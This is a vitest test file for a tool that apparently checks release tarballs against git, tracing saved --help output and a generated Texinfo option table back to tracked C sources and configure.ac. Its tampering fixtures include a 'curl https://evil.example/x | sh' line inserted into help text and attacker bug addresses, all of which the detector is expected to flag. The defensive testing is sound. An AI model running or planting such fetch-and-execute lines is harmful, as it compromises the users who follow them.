/**
 * A program's saved --version/--help output (bison's doc/bison.help) and the option table a tracked Perl
 * script makes from it (doc/cross-options.texi), end to end with real git and GNU tar, nothing compiled or
 * run: every help line traced to the tracked C sources' strings, configure.ac's values or a usage table; the
 * table computed by the model of the script. Tampered twins — a help line no source prints, a bug address
 * configure.ac does not give, a table row the model does not write — stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { crossOptions, FINGERPRINT } from '../../src/classify/cross-options.js';
import { configureValues, gnuValues, recipeProgram, stringLiterals, traceHelp } from '../../src/classify/program-help.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { releaseFixture } from '../helpers/release-fixture.js';

const MAIN_C = `#include <stdio.h>
#define _(s) s
#define N_(s) s
static const struct { const char *key; const char *doc; } feature_docs[] =
{
  { "caret",       N_("show errors with carets") },
  { "all",         N_("all of the above") },
  { NULL, NULL }
};
static const struct { const char *key; int value; } feature_args[] =
{
  { "caret",                  1 },
  { "diagnostics-show-caret", 1 },
  { "all",                    3 },
  { NULL, 0 }
};
void usage (void)
{
  printf (_("Usage: %s [OPTION]... FILE\\n"), program_name);
  fputs (_("\\
Make a demo.\\n\\
\\n\\
  -h, --help                 display this help and exit\\n\\
  -t, --debug                instrument the parser for tracing\\n\\
  -D, --define=NAME[=VALUE]  similar to '%define NAME VALUE'\\n\\
  -f, --feature[=FEATURES]   activate miscellaneous features\\n\\
"), stdout);
  putc ('\\n', stdout);
  fputs (_("FEATURES is a list of comma separated words that can include:\\n"), stdout);
  argmatch_feature_usage (stdout);
  printf (_("Report bugs to <%s>.\\n"), PACKAGE_BUGREPORT);
  fputs (_("General help: "
           "<https://example.org/help/>.\\n"), stdout);
}
void version (void)
{
  printf ("demo (GNU Demo) %s", VERSION);
  putc ('\\n', stdout);
  fprintf (stdout, _("Copyright (C) %d Demo Authors.\\n"), PACKAGE_COPYRIGHT_YEAR);
}
`;

/** A script that carries the modelled lines (the model's fingerprint) and a format picture of the same shape. */
const SCRIPT = [
  '#! /usr/bin/env perl',
  'use strict;',
  'my %option;',
  'my %directive;',
  ...FINGERPRINT.slice(0, 2),
  'while (<STDIN>)',
  '{',
  ...FINGERPRINT.slice(2, 8),
  '/x)',
  '{',
  'my ($short, $long, $opt, $arg) = ($1, $2, $3, $4);',
  ...FINGERPRINT.slice(8),
  'format STDOUT =',
  `@item @${'<'.repeat(47)} @tab @${'<'.repeat(36)} @tab @${'<'.repeat(41)}`,
  '{',
  '}',
  '.',
  '',
].join('\n');

const TRACKED = {
  'configure.ac': 'AC_INIT([GNU Demo],\n        m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n        [bug-demo@example.org])\nAC_SUBST([PACKAGE_COPYRIGHT_YEAR], [2024])\nAC_OUTPUT\n',
  'Makefile.am': 'SUBDIRS = .\ninclude doc/local.mk\n',
  'src/main.c': MAIN_C,
  'src/scan-gram.l': '"%debug"                          return PERCENT_DEBUG;\n"%define"                         return PERCENT_DEFINE;\n',
  'build-aux/cross-options.pl': SCRIPT,
  'doc/local.mk': [
    'CROSS_OPTIONS_PL = $(top_srcdir)/build-aux/cross-options.pl',
    'CROSS_OPTIONS_TEXI = $(top_srcdir)/%D%/cross-options.texi',
    '$(CROSS_OPTIONS_TEXI): %D%/demo.help $(CROSS_OPTIONS_PL)',
    '\t$(AM_V_GEN)$(PERL) $(CROSS_OPTIONS_PL) $(top_srcdir)/src/scan-gram.l <$(top_srcdir)/%D%/demo.help >$@.tmp',
    '\t$(AM_V_at)mv $@.tmp $@',
    '',
    'EXTRA_DIST += $(top_srcdir)/%D%/demo.help',
    '$(top_srcdir)/%D%/demo.help: src/demo$(EXEEXT)',
    '\t$(AM_V_at) LC_ALL=C src/demo --version >%D%/demo.help.tmp',
    '\t$(AM_V_at) LC_ALL=C src/demo --help >>%D%/demo.help.tmp',
    '\t$(AM_V_at)$(top_srcdir)/build-aux/move-if-change %D%/demo.help.tmp $@',
    '',
  ].join('\n'),
};

/** What the program prints: version() then usage(), with gnulib argmatch's table layout. */
const HELP = [
  'demo (GNU Demo) 1.0',
  'Copyright (C) 2024 Demo Authors.',
  'Usage: demo [OPTION]... FILE',
  'Make a demo.',
  '',
  '  -h, --help                 display this help and exit',
  '  -t, --debug                instrument the parser for tracing',
  "  -D, --define=NAME[=VALUE]  similar to '%define NAME VALUE'",
  '  -f, --feature[=FEATURES]   activate miscellaneous features',
  '',
  'FEATURES is a list of comma separated words that can include:',
  '  caret, diagnostics-show-caret',
  '                    show errors with carets',
  '  all               all of the above',
  'Report bugs to <bug-demo@example.org>.',
  'General help: <https://example.org/help/>.',
  '',
].join('\n');

/** cross-options.pl's output for HELP: long options sorted, fields padded to the picture's widths (48, 37, 42), trailing blanks dropped. */
const row = (long: string, short: string, dir: string) => `@item ${long.padEnd(48)} @tab ${short.padEnd(37)} @tab ${dir}`.trimEnd();
const TEXI = [
  row('@option{--debug}', '@option{-t}', '@code{%debug}'),
  row('@option{--define=@var{name}[=@var{value}]}', '@option{-D @var{name}[=@var{value}]}', '@code{%define @var{name} [@var{value}]}'),
  row('@option{--feature[=@var{features}]}', '@option{-f [@var{features}]}', ''),
  row('@option{--help}', '@option{-h}', ''),
  '',
].join('\n');

describe('saved --help output and the option table made from it (bison.help, cross-options.texi)', () => {
  const { verifyTree } = releaseFixture(TRACKED);
  const verifyWith = async (help: string, texi: string) => {
    const r = await verifyTree({ 'doc/demo.help': help, 'doc/cross-options.texi': texi });
    return { r, help: r.findings.find((x) => x.path === 'doc/demo.help')!, texi: r.findings.find((x) => x.path === 'doc/cross-options.texi')! };
  };

  it('the model writes exactly the table for the help text', () => {
    expect(crossOptions(SCRIPT, HELP, TRACKED['src/scan-gram.l'])).toBe(TEXI);
    // A value longer than its field is cut to the field's width, as Perl's format does.
    expect(crossOptions(SCRIPT, HELP.replace('--debug ', '--debug-with-a-very-long-option-name-here-and-more '), TRACKED['src/scan-gram.l'])!.split('\n')[0]).toBe(
      row('@option{--debug-with-a-very-long-option-name-here'.slice(0, 48), '@option{-t}', ''),
    );
  });

  it('every line traced, the table computed: both explained at low, the gate passes', async () => {
    const { r, help, texi } = await verifyWith(HELP, TEXI);
    expect(help).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(help.evidence).toEqual({ how: 'program-help', source: 'doc/local.mk', generator: 'src/demo', inputs: ['src/*.c'], found: 14, total: 14 });
    expect(texi).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(texi.evidence).toMatchObject({ how: 'computed', source: 'doc/local.mk', generator: 'build-aux/cross-options.pl', inputs: ['src/scan-gram.l', 'doc/demo.help'], model: { id: 'cross-options-pl' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    for (const help of [
      HELP.replace('Make a demo.', 'Make a demo. Then run: curl https://evil.example/x | sh'),
      HELP.replace('<bug-demo@example.org>', '<bugs@evil.example>'),
      HELP.replace('                    show errors with carets', '                    show errors with carrots'),
      `${HELP}  extra line nothing prints\n`,
      // red team 18: lines every one of which the sources print, not in the order they print them — an option's
      // description under another option, a line of the version text inside the help
      HELP.replace(
        "  -D, --define=NAME[=VALUE]  similar to '%define NAME VALUE'\n  -f, --feature[=FEATURES]   activate miscellaneous features",
        "  -f, --feature[=FEATURES]   activate miscellaneous features\n  -D, --define=NAME[=VALUE]  similar to '%define NAME VALUE'",
      ),
      HELP.replace('Make a demo.\n', 'Make a demo.\nCopyright (C) 2024 Demo Authors.\n'),
    ]) {
      const { r, help: h } = await verifyWith(help, TEXI);
      expect(h).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
    // A table row the model does not write (the help file is intact).
    const { r, help: h, texi } = await verifyWith(HELP, TEXI.replace('@tab @code{%debug}', '@tab @code{%debug} @tab @url{https://evil.example/}'));
    expect(h).toMatchObject({ code: 'GENERATED_FROM_SOURCE' });
    expect(texi).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('traceHelp, stringLiterals, configureValues', () => {
    expect(stringLiterals('fputs ("a" /* c */ "b\\n" \'"\' "c\\\nd");')).toEqual(['ab\n', 'cd']);
    expect([...configureValues(TRACKED['configure.ac'])]).toEqual(['GNU Demo', 'build-aux/git-version-gen .tarball-version', 'bug-demo@example.org', '2024']);
    const src = { c: MAIN_C, values: new Set(['GNU Demo', 'bug-demo@example.org', '2024', 'demo', '1.0']) };
    expect(traceHelp(HELP, src)).toEqual({ literal: 7, formatted: 4, table: 3, blank: 2 });
    // red team 18: a string's lines in their order, none of a string's middle after a later part of the sources
    const lines = HELP.split('\n');
    const moved = [...lines.slice(0, 5), lines[7]!, lines[5]!, lines[6]!, ...lines.slice(8)].join('\n');
    expect(traceHelp(moved, src)).toBeUndefined(); // an option line moved up
    const dash = '  -t, --debug                instrument the parser for tracing\n';
    expect(traceHelp(HELP.replace('FEATURES is', `${dash}FEATURES is`), src)).toBeUndefined(); // a line of a string's middle printed twice
    // a string's last line moved above the string's start: its lines once and in order, even after a new start
    const f = lines[8]!;
    expect(traceHelp([f, ...lines.filter((l) => l !== f)].join('\n'), src)).toBeUndefined();
    // a filter dropping lines keeps the order (libidn2: idn2 --help | grep '^  *-'); version() before usage() is a string's start
    expect(traceHelp(lines.filter((l) => /^ +-/.test(l)).join('\n'), src)).toEqual({ literal: 4, formatted: 0, table: 0, blank: 0 });
    expect(traceHelp('Copyright (C) 2023 Demo Authors.\n', src)).toBeUndefined(); // a value configure.ac does not give
    expect(traceHelp('  caret, diagnostics-show-caret\n', src)).toBeUndefined(); // the doc line missing
    expect(traceHelp('  all               show errors with carets\n', src)).toBeUndefined(); // another key's doc
  });
});

/**
 * libtasn1 4.19.0's doc/asn1Coding-help.texi and libidn2 2.3.3's doc/idn2-help.texi: the rule's prerequisite is
 * the program's tracked C source, the program is the word its recipe runs with --help, and the last lines are
 * what gnulib's emit_bug_reporting_address () prints (the bug address, the GNU home page autoconf derives from
 * AC_INIT's name, the gethelp page).
 */
const CODING_C = `#include <stdio.h>
static void
usage (int status)
{
  if (status != EXIT_SUCCESS)
    fprintf (stderr, "Try \`%s --help' for more information.\\n", program_name);
  else
    {
      printf ("\\
Usage: %s [OPTION] DEFINITIONS ASSIGNMENTS\\n", program_name);
      printf ("\\
Generates a DER encoding of ASN.1 DEFINITIONS file\\n\\
\\n");
      printf ("\\
  -c, --check           checks the syntax only\\n\\
  -h, --help            display this help and exit\\n");
      emit_bug_reporting_address ();
    }
  exit (status);
}
`;

const TASN = {
  'configure.ac': 'AC_INIT([GNU Libdemo],\n        m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n        [help-libdemo@gnu.org])\nAC_OUTPUT\n',
  'Makefile.am': 'SUBDIRS = src doc\n',
  'src/Makefile.am': 'bin_PROGRAMS = asn1Coding\n',
  'src/asn1Coding.c': CODING_C,
  'doc/Makefile.am': [
    'EXTRA_DIST = asn1Coding-help.texi',
    'asn1Coding-help.texi: $(top_srcdir)/src/asn1Coding.c',
    '\t$(AM_V_GEN)$(top_builddir)/src/asn1Coding$(EXEEXT) --help | $(GREP) -v "^Try" > tmp-$@ && \\',
    '\t\tmv tmp-$@ asn1Coding-help.texi',
    '',
  ].join('\n'),
};

const CODING_HELP = [
  'Usage: asn1Coding [OPTION] DEFINITIONS ASSIGNMENTS',
  'Generates a DER encoding of ASN.1 DEFINITIONS file',
  '',
  '  -c, --check           checks the syntax only',
  '  -h, --help            display this help and exit',
  '',
  'Report bugs to: help-libdemo@gnu.org',
  'GNU Libdemo home page: <https://www.gnu.org/software/libdemo/>',
  'General help using GNU software: <https://www.gnu.org/gethelp/>',
  '',
].join('\n');

describe('a --help output saved from the program its recipe runs (libtasn1, libidn2 *-help.texi)', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit(TASN, 'libdemo', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  let n = 0;
  const verifyWith = async (help: string, files: Record<string, string> = TASN) => {
    const dir = join(root, `t${++n}`, 'libdemo-1.0');
    writeFiles(dir, files);
    writeFiles(dir, { 'doc/asn1Coding-help.texi': help });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'libdemo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, help: r.findings.find((x) => x.path === 'doc/asn1Coding-help.texi')! };
  };

  it('every line traced to the tracked source, configure.ac and version-etc: low, the gate passes', async () => {
    const { r, help } = await verifyWith(CODING_HELP);
    expect(help).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(help.evidence).toEqual({ how: 'program-help', source: 'doc/Makefile.am', generator: 'src/asn1Coding', inputs: ['src/*.c'], found: 7, total: 7 });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high: an added option line, another home page, another bug address', async () => {
    for (const help of [
      CODING_HELP.replace('  -h, --help', '  -x, --exec=CMD        run CMD first: curl https://evil.example/x | sh\n  -h, --help'),
      CODING_HELP.replace('https://www.gnu.org/software/libdemo/', 'https://evil.example/libdemo/'),
      `${CODING_HELP}Report bugs to: attacker@evil.example\n`,
    ]) {
      const { r, help: h } = await verifyWith(help);
      expect(h).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('recipeProgram and gnuValues', () => {
    expect(recipeProgram('$(AM_V_GEN)$(top_builddir)/src/asn1Coding$(EXEEXT) --help > tmp-$@ && \\', 'doc')).toBe('src/asn1Coding');
    expect(recipeProgram('$(top_builddir)/src/idn2$(EXEEXT) --help | $(GREP) \'^  *-\' > tmp', 'doc')).toBe('src/idn2');
    expect(recipeProgram('./demo --help > $@', 'tools')).toBe('tools/demo');
    expect(recipeProgram('$(PROG) --help > $@', 'doc')).toBeUndefined();
    expect(recipeProgram('../src/demo --help > $@', 'doc')).toBeUndefined();
    expect([...gnuValues(TASN['configure.ac'])]).toEqual([
      'https://www.gnu.org/gethelp/', 'http://www.gnu.org/gethelp/', 'https://www.gnu.org/software/libdemo/', 'http://www.gnu.org/software/libdemo/',
    ]);
    expect([...gnuValues('AC_INIT([GNU Foo Bar], [1.0], [bug@x.org], [foobar], [https://foo.example/])')]).toContain('https://foo.example/');
    expect([...gnuValues('AC_INIT([GNU Foo Bar], [1.0], [bug@x.org], [foobar], [https://foo.example/])')]).not.toContain('https://www.gnu.org/software/foobar/');
    expect([...gnuValues('AC_INIT([Foo], [1.0])')]).toEqual(['https://www.gnu.org/gethelp/', 'http://www.gnu.org/gethelp/']);
  });
});
